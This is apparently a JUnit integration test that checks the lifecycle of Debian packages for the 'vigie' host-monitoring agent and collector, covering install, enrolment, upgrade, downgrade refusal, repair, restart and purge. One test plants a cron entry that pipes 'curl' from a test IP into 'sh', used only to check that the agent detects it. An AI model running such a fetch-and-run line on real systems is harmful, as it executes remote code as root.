package bzh.vigie.installers;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.SortedMap;
import java.util.TreeMap;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestMethodOrder;
import org.junit.jupiter.api.io.TempDir;

/**
 * The life of both Debian packages on one Debian that runs: the collector is installed and put into service, the agent is installed,
 * enrolled and sends, is upgraded, refuses to go back, is repaired, comes back after a restart, and both go.
 */
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
final class DebianPackageTest {
    private static final String NEWER = "0.1.1";
    private static final String STATUS = "/var/lib/vigie-agent/status.jsonl";
    private static final String CONNECTED = "grep -q '\"connection\":\"connected\"' " + STATUS;
    private static final String READ = "grep -q '\"inventory\":\"complete\"' " + STATUS;

    @TempDir
    static Path folder;

    private static DebianRoot root;
    private static BootedSystem debian;
    private static int port;

    @BeforeAll
    static void start() throws IOException, InterruptedException {
        Path agent = LinuxPackage.deb(LinuxProgram.AGENT);
        Path collector = LinuxPackage.deb(LinuxProgram.COLLECTOR);
        root = DebianRoot.open();
        Folders.copy(agent, root.path().resolve("agent.deb"));
        Folders.copy(collector, root.path().resolve("collector.deb"));
        Folders.copy(
                LinuxPackage.of(LinuxProgram.AGENT, NEWER, false, folder),
                root.path().resolve("newer.deb"));
        debian = BootedSystem.boot(root);
        try (ServerSocket free = new ServerSocket(0, 1, InetAddress.getLoopbackAddress())) {
            port = free.getLocalPort();
        }
    }

    @AfterAll
    static void stop() throws IOException {
        if (debian != null) {
            debian.close();
        }
        if (root != null) {
            root.close();
        }
    }

    @Test
    @Order(1)
    void theCollectorIsInstalledAndStartsOnceItsFolderIsMade() throws IOException, InterruptedException {
        String said = debian.says("dpkg --install /collector.deb 2>&1");
        assertTrue(said.contains("vigie-collector init --name"), said);
        assertNotEquals(0, debian.run("systemctl is-active vigie-collector").code());
        assertFalse(debian.says("systemctl --failed --plain --no-legend").contains("vigie"));
        debian.says("vigie-collector init --name localhost:" + port + " --admin anne");
        assertTrue(debian.until("systemctl is-active --quiet vigie-collector"), () -> log("vigie-collector"));
        assertTrue(
                debian.until("journalctl -u vigie-collector | grep -qi 'listen\\|écoute'"),
                () -> log("vigie-collector"));
        assertEquals(
                "vigie-collector vigie-collector 700",
                debian.says("stat -c '%U %G %a' /var/lib/vigie-collector").strip());
    }

    @Test
    @Order(2)
    void theAgentIsInstalledAndWaitsToBeEnrolled() throws IOException, InterruptedException {
        String said = debian.says("dpkg --install /agent.deb 2>&1");
        assertTrue(said.contains("sudo vigie-agent enrol --token"), said);
        assertTrue(debian.says("systemctl --failed --plain --no-legend").isBlank(), () -> log("vigie-agent"));
        assertEquals("700", debian.says("stat -c %a /var/lib/vigie-agent").strip());
        assertTrue(debian.run("vigie-agent status").said().contains("n'est pas inscrite"));
    }

    @Test
    @Order(3)
    void aWrongTokenIsSaidAndChangesNothing() throws IOException, InterruptedException {
        Commands.Outcome cut = debian.run("vigie-agent enrol --token vigie1.AAAA");
        assertEquals(2, cut.code(), cut.said());
        assertFalse(cut.said().contains("Exception"), cut.said());
        assertFalse(Files.exists(debian.file("/var/lib/vigie-agent/identity.conf")));
        assertTrue(debian.says("systemctl --failed --plain --no-legend").isBlank());
    }

    @Test
    @Order(4)
    void theAgentStartsOnceEnrolledAndItsEventsArrive() throws IOException, InterruptedException {
        enrol();
        assertTrue(debian.until(CONNECTED), () -> log("vigie-agent"));
        debian.says("printf '* * * * * root curl -s http://203.0.113.7/x | sh\\n' > /etc/cron.d/vigie-test");
        assertTrue(debian.until("sleep 1; " + collector("events") + " | grep -q vigie-test"), () -> log("vigie-agent"));
        debian.says("rm /etc/cron.d/vigie-test");
        assertTrue(debian.says(collector("hosts list")).contains("\"connected\":true"));
    }

    @Test
    @Order(5)
    void theSandboxTakesNothingFromAnySource() throws IOException, InterruptedException {
        String another = "/root/plain";
        assertTrue(debian.until(READ), () -> log("vigie-agent"));
        debian.says("systemctl stop vigie-agent");
        // The same host, which has read nothing yet, as a program with all rights.
        debian.says("mkdir -m 700 " + another
                + " && cp -p /var/lib/vigie-agent/identity.conf /var/lib/vigie-agent/agent.key " + another
                + " && cp -a " + another + " /root/fresh");
        debian.says("systemd-run --quiet --unit=plain /usr/bin/vigie-agent run --state " + another);
        assertTrue(
                debian.until("grep -q '\"inventory\":\"complete\"' " + another + "/status.jsonl"), () -> log("plain"));
        // A logon, by which the source of logons is proven.
        assertTrue(
                debian.until("su -c true root; grep linux.logon " + another + "/status.jsonl | grep -q live"),
                () -> log("plain"));
        String plain = watched(another);
        debian.says("systemctl stop plain && rm -r /var/lib/vigie-agent && mv /root/fresh /var/lib/vigie-agent");
        debian.says("systemctl start vigie-agent");
        assertTrue(debian.until(CONNECTED + " && " + READ), () -> log("vigie-agent"));
        assertTrue(
                debian.until("su -c true root; grep linux.logon " + STATUS + " | grep -q live"),
                () -> log("vigie-agent"));
        assertEquals(plain, watched("/var/lib/vigie-agent"));
        assertTrue(plain.contains("source linux.network \"state\":\"live\""), plain);
        assertTrue(plain.contains("location linux.systemd.service "), plain);
        debian.says("rm -r " + another);
    }

    @Test
    @Order(6)
    void anUpgradeKeepsIdentityAndConfiguration() throws IOException, InterruptedException {
        String before = identity();
        debian.says("echo VIGIE_JAVA_OPTIONS=-Dof.this.machine=yes > /etc/default/vigie-agent");
        debian.says("echo 'heartbeat = 30s' > /var/lib/vigie-agent/agent.conf");
        debian.says("dpkg --install /newer.deb 2>&1");
        assertTrue(debian.until("systemctl is-active --quiet vigie-agent && " + CONNECTED), () -> log("vigie-agent"));
        assertEquals(before, identity());
        assertEquals(NEWER, debian.says("dpkg-query -W -f '${Version}' vigie-agent"));
        assertTrue(debian.says("cat /etc/default/vigie-agent").contains("of.this.machine"));
        assertTrue(debian.says("tr '\\0' ' ' < /proc/$(systemctl show -P MainPID vigie-agent)/cmdline")
                .contains("of.this.machine"));
        assertTrue(debian.says("cat /var/lib/vigie-agent/agent.conf").contains("30s"));
    }

    @Test
    @Order(7)
    void aDowngradeIsRefusedAndTheAgentGoesOn() throws IOException, InterruptedException {
        Commands.Outcome outcome = debian.run("dpkg --install /agent.deb 2>&1");
        assertNotEquals(0, outcome.code(), outcome.said());
        assertTrue(outcome.said().contains("retour à une version plus ancienne refusé"), outcome.said());
        assertEquals(NEWER, debian.says("dpkg-query -W -f '${Version}' vigie-agent"));
        assertTrue(debian.until("systemctl is-active --quiet vigie-agent && " + CONNECTED), () -> log("vigie-agent"));
    }

    @Test
    @Order(8)
    void whatAnAntivirusTookAwayIsSaidAndPutBack() throws IOException, InterruptedException {
        String before = identity();
        debian.says("systemctl stop vigie-agent; rm /usr/lib/vigie-agent/runtime/bin/java");
        Commands.Outcome outcome = debian.run("vigie-agent status");
        assertNotEquals(0, outcome.code());
        assertTrue(outcome.said().contains("réinstallez le paquet"), outcome.said());
        assertTrue(debian.run("dpkg --verify vigie-agent").said().contains("runtime/bin/java"));
        debian.says("dpkg --install /newer.deb 2>&1");
        assertTrue(debian.until("systemctl is-active --quiet vigie-agent && " + CONNECTED), () -> log("vigie-agent"));
        assertEquals(before, identity());
        assertEquals("", debian.run("dpkg --verify vigie-agent").said().replaceAll("(?m)^.* c .*\\n", ""));
    }

    @Test
    @Order(9)
    void bothComeBackAfterARestart() throws IOException, InterruptedException {
        debian.restart();
        assertTrue(debian.until("systemctl is-active --quiet vigie-collector"), () -> log("vigie-collector"));
        assertTrue(debian.until("systemctl is-active --quiet vigie-agent && " + CONNECTED), () -> log("vigie-agent"));
    }

    @Test
    @Order(10)
    void whatWasSwitchedOffStaysOff() throws IOException, InterruptedException {
        debian.says("systemctl disable --quiet --now vigie-agent.service vigie-agent.path");
        debian.says("dpkg --install /newer.deb 2>&1");
        assertNotEquals(0, debian.run("systemctl is-active vigie-agent").code());
        debian.says("systemctl enable --quiet --now vigie-agent.service vigie-agent.path");
    }

    @Test
    @Order(11)
    void removalKeepsTheIdentityAndPurgeNothing() throws IOException, InterruptedException {
        String before = identity();
        String said = debian.says("dpkg --remove vigie-agent 2>&1");
        assertTrue(said.contains("apt-get purge vigie-agent"), said);
        assertEquals(before, identity());
        debian.says("dpkg --install /newer.deb 2>&1");
        assertTrue(debian.until("systemctl is-active --quiet vigie-agent && " + CONNECTED), () -> log("vigie-agent"));
        debian.says("dpkg --purge vigie-agent vigie-collector 2>&1");
        assertEquals("", left("vigie"), "nothing stays");
        assertFalse(debian.says("cat /etc/passwd").contains("vigie"));
        assertTrue(debian.says("systemctl --all --plain --no-legend list-units 'vigie*'")
                .isBlank());
        assertTrue(debian.says("systemctl --failed --plain --no-legend").isBlank());
    }

    private static void enrol() throws IOException, InterruptedException {
        String token = debian.says(collector("token create --commune 29019 --uses 5 --expires 1d"));
        Matcher found = Pattern.compile("\"token\":\"([^\"]*)\"").matcher(token);
        assertTrue(found.find(), token);
        debian.says("vigie-agent enrol --token " + found.group(1));
        assertTrue(debian.until("systemctl is-active --quiet vigie-agent"), () -> log("vigie-agent"));
    }

    private static String collector(String command) {
        return "vigie-collector " + command + " --format jsonl";
    }

    private static String identity() throws IOException, InterruptedException {
        return debian.says("grep ^agent-id /var/lib/vigie-agent/identity.conf");
    }

    /** Files of that name, but those that we put there and the package manager's own log. */
    private static String left(String name) throws IOException, InterruptedException {
        return debian.says(
                "find / -xdev -iname '*" + name + "*' -not -path '/proc/*' -not -path '/sys/*' -not -path '/run/*'");
    }

    /** What stands in the agent's status: sources and locations, with their state and reason. */
    private static String watched(String state) throws IOException, InterruptedException {
        SortedMap<String, String> all = new TreeMap<>();
        for (String line : debian.says("cat " + state + "/status.jsonl").lines().toList()) {
            Matcher source = Pattern.compile("\"kind\":\"source\",\"source\":\"([^\"]*)\",(\"state\":.*),\"since\"")
                    .matcher(line);
            Matcher location = Pattern.compile(
                            "\"kind\":\"location\",\"location\":\"([^\"]*)\",(\"account_id\":\"[^\"]*\").*?(\"status\":\"[^\"]*\",\"reason\":\"[^\"]*\")")
                    .matcher(line);
            if (source.find()) {
                all.put("source " + source.group(1), source.group(2));
            } else if (location.find()) {
                all.put("location " + location.group(1) + " " + location.group(2), location.group(3));
            }
        }
        StringBuilder text = new StringBuilder();
        all.forEach((name, value) -> text.append(name).append(' ').append(value).append('\n'));
        return text.toString();
    }

    private static String log(String unit) {
        try {
            return debian.run("systemctl status " + unit + "; journalctl --no-pager -n 60 -u " + unit + "; cat "
                            + STATUS + " | grep -v location")
                    .said();
        } catch (IOException e) {
            return e.toString();
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
            return e.toString();
        }
    }
}
